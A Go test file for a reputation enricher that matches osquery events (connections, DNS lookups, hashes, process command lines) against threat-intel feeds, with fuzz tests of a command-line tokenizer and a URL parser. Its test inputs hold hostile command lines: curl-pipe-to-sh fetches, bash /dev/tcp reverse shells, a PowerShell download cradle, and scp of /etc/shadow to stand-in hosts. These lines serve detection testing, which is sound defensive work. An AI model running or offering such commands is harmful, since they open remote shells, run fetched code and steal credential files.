package reputation

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stackjoin/stackjoin/internal/testdata"
	"github.com/stackjoin/stackjoin/pkg/enrich"
	"github.com/stackjoin/stackjoin/pkg/event"
)

// eventOf makes an event of a row as osquery writes it.
func eventOf(t testing.TB, query, columns string) *enrich.Event {
	t.Helper()
	e := &enrich.Event{}
	if err := e.Row.Parse([]byte(`{"name":"` + query + `","action":"added","columns":{` + columns + `}}`)); err != nil {
		t.Fatal(err)
	}
	e.Lens = event.NewLenses().Find(&e.Row)
	e.Kind = e.Lens.Kind
	return e
}

func enriched(t testing.TB, x *Index, query, columns string) *enrich.Event {
	t.Helper()
	e := eventOf(t, query, columns)
	if err := New(NewStore(x)).Enrich(context.Background(), e); err != nil {
		t.Fatal(err)
	}
	return e
}

func met(threats []enrich.Threat) []string {
	var all []string
	for _, t := range threats {
		all = append(all, fmt.Sprint(t.Field, "=", t.Atomic, " ", t.Indicator, " ", t.How))
	}
	return all
}

const badList = "1.2.3.4\n1.2.3.0/24\nevil.org\nhttp://evil.org/a.sh\n44d88612fea8a8f36de82e1278abb02f\n2a00:bad::/32\n"

func TestFields(t *testing.T) {
	x, _ := load(t, feedOf(t, "feed", badList))
	for _, c := range []struct {
		query, columns string
		want           []string
	}{
		{
			"socket_events", `"action":"connect","pid":"1","remote_address":"1.2.3.4","remote_port":"443"`,
			[]string{"destination.ip=1.2.3.4 1.2.3.4 exact", "destination.ip=1.2.3.4 1.2.3.0/24 prefix"},
		},
		{"socket_events", `"action":"accept","pid":"1","remote_address":"::ffff:1.2.3.9","remote_port":"443"`, []string{"source.ip=::ffff:1.2.3.9 1.2.3.0/24 prefix"}},
		{"socket_events", `"action":"connect","pid":"1","remote_address":"2A00:BAD::5","remote_port":443`, []string{"destination.ip=2A00:BAD::5 2a00:bad::/32 prefix"}},
		{"socket_events", `"action":"connect","pid":"1","remote_address":"","remote_port":"0"`, nil},
		{"socket_events", `"action":"connect","pid":"1","remote_address":null`, nil},
		{"last", `"host":"gate.evil.org","tty":"pts/0","username":"u","pid":"1","time":"1","type":"7"`, []string{"source.domain=gate.evil.org evil.org subdomain"}},
		{"last", `"host":"1.2.3.9","tty":"pts/0","username":"u","pid":"1","time":"1","type":"7"`, []string{"source.ip=1.2.3.9 1.2.3.0/24 prefix"}},
		{
			"dns_lookup_events", `"name":"A.Evil.org.","type":"A","response":"::ffff:1.2.3.9;type: 5 cdn.evil.org;","pid":"4"`,
			[]string{"dns.question.name=A.Evil.org. evil.org subdomain", "dns.answers.data=::ffff:1.2.3.9 1.2.3.0/24 prefix", "dns.answers.data=cdn.evil.org evil.org subdomain"},
		},
		{"hash", `"path":"/x","md5":"44D88612FEA8A8F36DE82E1278ABB02F","sha1":"","sha256":"e3"`, []string{"file.hash.md5=44D88612FEA8A8F36DE82E1278ABB02F 44d88612fea8a8f36de82e1278abb02f exact"}},
		{
			"process_events", `"pid":"1","path":"/usr/bin/curl","cmdline":"curl -s \"http:\/\/evil.org/a.sh\"|sh"`,
			[]string{"process.command_line=http://evil.org/a.sh http://evil.org/a.sh exact", "process.command_line=evil.org evil.org exact"},
		},
		{"my own query", `"address":"1.2.3.4"`, nil},
	} {
		if got := met(enriched(t, x, c.query, c.columns).Threats); !slices.Equal(got, c.want) {
			t.Errorf("%s {%s}:\n got %q\nwant %q", c.query, c.columns, got, c.want)
		}
	}
}

func TestOneIndicatorOneFieldOnce(t *testing.T) {
	x, _ := load(t, feedOf(t, "a", "evil.org\n"), feedOf(t, "b", "evil.org\n"))
	e := enriched(t, x, "process_events", `"pid":"1","path":"/x","cmdline":"ssh u@evil.org evil.org:/tmp http://evil.org/x"`)
	if got := names(e.Threats); !slices.Equal(got, []string{"a evil.org", "b evil.org"}) {
		t.Error(got)
	}
}

func TestPortOfTheEvent(t *testing.T) {
	f := NewFeed("feodo", filepath.Join("testdata", "feodo.csv"))
	f.Preset, f.AllowPrivate = "feodo", true
	x, _ := load(t, f)
	for columns, want := range map[string]string{
		`"remote_address":"198.51.100.23","remote_port":"443"`:  "198.51.100.23 ip+port",
		`"remote_address":"198.51.100.23","remote_port":"4443"`: "",
		`"remote_address":"203.0.113.77","remote_port":"0"`:     "203.0.113.77 ip_only",
	} {
		e := enriched(t, x, "socket_events", `"action":"connect","pid":"1",`+columns)
		if got := strings.Join(told(e.Threats), ","); got != want {
			t.Errorf("%s: %q, want %q", columns, got, want)
		}
	}
	e := enriched(t, x, "process_events", `"pid":"1","path":"/x","cmdline":"nc 203.0.113.77:996 ; nc 203.0.113.77 995"`)
	if got := told(e.Threats); !slices.Equal(got, []string{"203.0.113.77 ip_only"}) {
		t.Error(got)
	}
}

// TestMissingFeedIsAGap: an event that was asked about is not clean while a feed
// is missing; one that has nothing to ask is.
func TestMissingFeedIsAGap(t *testing.T) {
	x, _ := Load(context.Background(), []Feed{feedOf(t, "feed", badList), NewFeed("gone", filepath.Join(t.TempDir(), "gone"))}, nil)
	e := enriched(t, x, "socket_events", `"action":"connect","pid":"1","remote_address":"9.9.9.9"`)
	if len(e.Gaps) != 1 || e.Gaps[0] != (enrich.Gap{Question: "reputation", Reason: enrich.FeedUnavailable}) {
		t.Error(e.Gaps)
	}
	if e := enriched(t, x, "process_events", `"pid":"1","path":"/bin/ls","cmdline":"ls -l"`); len(e.Gaps) > 0 {
		t.Error(e.Gaps)
	}
	if e := enriched(t, &Index{}, "socket_events", `"action":"connect","pid":"1","remote_address":"9.9.9.9"`); len(e.Gaps) > 0 {
		t.Error("no feed was configured:", e.Gaps)
	}
}

// TestMatchesAreCut: a command line made to match without end stays one record.
func TestMatchesAreCut(t *testing.T) {
	x, _ := load(t, feedOf(t, "feed", "1.0.0.0/8\n"+manyAddresses(500)))
	e := enriched(t, x, "process_events", `"pid":"1","path":"/x","cmdline":"`+strings.ReplaceAll(manyAddresses(500), "\n", " ")+`"`)
	if len(e.Threats) != maxThreats || len(e.Gaps) != 1 || e.Gaps[0].Reason != enrich.MatchesCut {
		t.Errorf("%d matches, gaps %v", len(e.Threats), e.Gaps)
	}
}

func TestEnrichMissAllocatesNothing(t *testing.T) {
	x, _ := load(t, feedOf(t, "feed", badList))
	for _, l := range []*Lookup{New(NewStore(x)), NewObserving(NewStore(x))} {
		missAllocatesNothing(t, l)
	}
}

func missAllocatesNothing(t *testing.T, l *Lookup) {
	for _, e := range []*enrich.Event{
		eventOf(t, "socket_events", `"action":"CONNECT","pid":"1","remote_address":"::ffff:9.9.9.9","remote_port":"443"`),
		eventOf(t, "process_events", `"pid":"1","path":"/x","cmdline":"curl -H \"a: b\" https://[2001:db8::1]:8443/x u@good.org:/y 10.0.0.1:80"`),
		eventOf(t, "dns_lookup_events", `"name":"www.good.org","type":"A","response":"9.9.9.9","pid":"4"`),
		eventOf(t, "hash", `"path":"/x","md5":"0cc175b9c0f1b6a831c399e269772661","sha1":"","sha256":""`),
	} {
		if n := testing.AllocsPerRun(100, func() {
			e.Sought = e.Sought[:0]
			if err := l.Enrich(context.Background(), e); err != nil {
				t.Error(err)
			}
		}); n != 0 || len(e.Threats) > 0 {
			t.Errorf("%s: %v allocations, %v", e.Lens.Table, n, e.Threats)
		}
	}
}

func TestWords(t *testing.T) {
	for line, want := range map[string]string{
		`curl -so- 'http://evil.org:8080/a?b=1&c=2' | sh`:     "curl|so|<http://evil.org:8080/a?b=1&c=2>|sh",
		`wget --proxy=http://u:p@1.2.3.4:3128/ evil.org/x.sh`: "wget|proxy|<http://u:p@1.2.3.4:3128/>|evil.org",
		`ssh -p 22 root@[2001:db8::1]:22 root@fe80::1%eth0`:   "ssh|p|22|2001:db8::1:22|fe80::1%eth0",
		`scp a.txt user@evil.org:/tmp/ 1.2.3.4:80`:            "scp|a.txt|evil.org|1.2.3.4:80",
		`bash -i >& /dev/tcp/1.2.3.4/443 0>&1`:                "bash|i|1.2.3.4|0|1",
		`x=http://a.org/?u=https://b.org/c,`:                  "x|<http://a.org/?u=https://b.org/c>|a.org|u|<https://b.org/c>",
		`(nslookup evil.org.);\\srv.evil.org\share [1.2.3.4]`: "nslookup|evil.org|srv.evil.org|share|1.2.3.4",
		`echo "http://[2001:db8::7]" ://x 1://y.org http://`:  "echo|<http://[2001:db8::7]>|x|y.org|<http://>",
		``: "", `   `: "", `'""'`: "",
	} {
		var got []string
		for c, w, ok := (words{line: []byte(line)}).next(); ok; c, w, ok = w.next() {
			text := string(c.text)
			if c.isURL {
				text = "<" + text + ">"
			} else if c.port > 0 {
				text += fmt.Sprint(":", c.port)
			}
			got = append(got, text)
		}
		if strings.Join(got, "|") != want {
			t.Errorf("%s\n got %q\nwant %q", line, strings.Join(got, "|"), want)
		}
	}
}

// FuzzWords: whatever the line, it ends, hands out parts of the line, and finds
// an address that stands between spaces.
func FuzzWords(f *testing.F) {
	for _, s := range []string{
		"curl http://a.b/c?d=http://e", "u@[::1]:22", "a=b,c;d", "://", "http://", "[", "@", "/dev/tcp/",
		`bash -c "exec 5<>/dev/tcp/198.51.100.7/4444;cat <&5"`, `powershell -c IEX(New-Object Net.WebClient).DownloadString('HTTP://evil.example.org:8080/a.ps1')`,
		"ssh -R 80:localhost:22 user@evil.example.org -p 2222", "git clone ssh://git@[2001:db8::7]:22/x.git", "wget -qO- https://a.example/?u=https%3A%2F%2Fb.example",
		"scp root@evil.example.org:/etc/shadow .", "nc 198.51.100.9:443", "x=http://a.example,http://b.example;c.example|d.example", "\xff\xfehttp://\x00.example", "http://[::ffff:198.51.100.7%eth0]/",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, line []byte) {
		line = append(append([]byte{}, line...), " 203.0.113.9 "...)
		found, n := false, 0
		for c, w, ok := (words{line: line}).next(); ok; c, w, ok = w.next() {
			if n++; n > 2*len(line)+2 {
				t.Fatal("no end")
			}
			if len(c.text) == 0 && !c.isURL || !bytes.Contains(line, c.text) {
				t.Fatalf("%q is not of the line", c.text)
			}
			found = found || string(c.text) == "203.0.113.9"
		}
		if !found {
			t.Fatalf("the address is not found in %q", line)
		}
	})
}

// FuzzURL: a URL's key read again is the same key.
func FuzzURL(f *testing.F) {
	for _, s := range []string{
		"http://a.org", "HTTPS://u:p@A.org.:443/%7e%2F?x#y", "ftp://[::1]:21/", "x://1.2.3.4:99999/", "http://a.org\\b",
		"http://3279880203/blah", "http://0x7f.1/", "http://017.0.0.1/", "http://[64:ff9b::c633:6407]:8080/", "http://[fe80::1%25eth0]/", "http://%31%36%38%2e%31%38%38%2e%39%39%2e%32%36/%2E",
		"http://bücher.example/ä?ö", "http://xn--bcher-kva.example/", "http://a.org/a/../b/./c//d/..", "http://a.org/%25%32%35%25", "http://a.org/a%00b\r\n\tc", "http://a..b...org./x",
		"wss://a.org:443/?a=b?c#d", "http://u@v@a.org:0080/", "http://a.org:/", "http://a.org?q", "http://a.org/\xff\x80", "http://a.org/%%%2",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, text []byte) {
		l, ok := parseURL(nil, text)
		if !ok {
			return
		}
		again, ok := parseURL(nil, append([]byte("x://"), l.key...))
		if !ok || !bytes.Equal(again.key, l.key) {
			t.Fatalf("%q: key %q, read again %q %v", text, l.key, again.key, ok)
		}
	})
}

// TestRealLogs runs the real rows past the real feeds in a pipeline.
func TestRealLogs(t *testing.T) {
	dir := testdata.Dir(t)
	feodo := NewFeed("feodo", filepath.Join(dir, "feeds", "ipblocklist.csv"))
	feodo.Preset = "feodo"
	x, _ := load(t, NewFeed("ipsum", filepath.Join(dir, "feeds", "ipsum.txt")), NewFeed("firehol", filepath.Join(dir, "feeds", "firehol_level1.netset")), feodo)
	p := enrich.NewPipeline(event.NewLenses(), nil, []enrich.Enricher{New(NewStore(x))})
	var out enrich.Out
	lines := bufio.NewScanner(bytes.NewReader(testdata.Read(t, "osquery/osqueryd.results.log")))
	lines.Buffer(nil, 1<<20)
	n := 0
	for ; lines.Scan(); n++ {
		if err := p.Process(context.Background(), enrich.Input{Value: lines.Bytes()}, &out); err != nil {
			t.Fatal(err)
		}
	}
	if lines.Err() != nil || n != 266 || len(out.Outputs) != n {
		t.Errorf("%d lines, %d records: %v", n, len(out.Outputs), lines.Err())
	}
	if got := p.TakeStats(); got.Matches != 0 || len(got.Gaps) > 0 && got.Gaps[enrich.FeedUnavailable] > 0 {
		t.Errorf("%+v: that host met no listed address", got)
	}
	row := `{"name":"socket_events","hostIdentifier":"h","columns":{"action":"connect","pid":"1","remote_address":"172.233.221.61","remote_port":"5938","time":"1"}}`
	if err := p.Process(context.Background(), enrich.Input{Value: []byte(row)}, &out); err != nil {
		t.Fatal(err)
	}
	if last := out.Outputs[len(out.Outputs)-1].Value; !bytes.Contains(last, []byte(`"match":"ip+port"`)) || !bytes.Contains(last, []byte("Pikabot")) {
		t.Errorf("%s", last)
	}
}

// A name that is listed with a port is met with that port, or where no port is
// known, and the match says which.
func TestNamesWithPorts(t *testing.T) {
	f := feedOf(t, "ports", "host,port\nc2.example,8443\n")
	f.Preset, f.Type, f.Fields = "csv", "domain", map[string]string{"value": "host", "port": "port"}
	x, _ := load(t, f)
	for row, want := range map[string]string{
		`"remote_address":"c2.example","remote_port":"8443"`:     "c2.example name+port",
		`"remote_address":"www.c2.example","remote_port":"8443"`: "c2.example subdomain",
		`"remote_address":"c2.example","remote_port":"443"`:      "",
		`"remote_address":"c2.example","remote_port":"0"`:        "c2.example name_only",
	} {
		e := enriched(t, x, "socket_events", `"action":"connect","pid":"1",`+row)
		if got := strings.Join(told(e.Threats), ", "); got != want {
			t.Errorf("%s: %q, want %q", row, got, want)
		}
	}
	for line, want := range map[string]string{
		"curl c2.example:8443": "c2.example name+port", "curl https://c2.example/x": "", "nc c2.example": "c2.example name_only",
	} {
		e := enriched(t, x, "process_events", `"pid":"1","path":"/x","cmdline":"`+line+`"`)
		if got := strings.Join(told(e.Threats), ", "); got != want {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
}
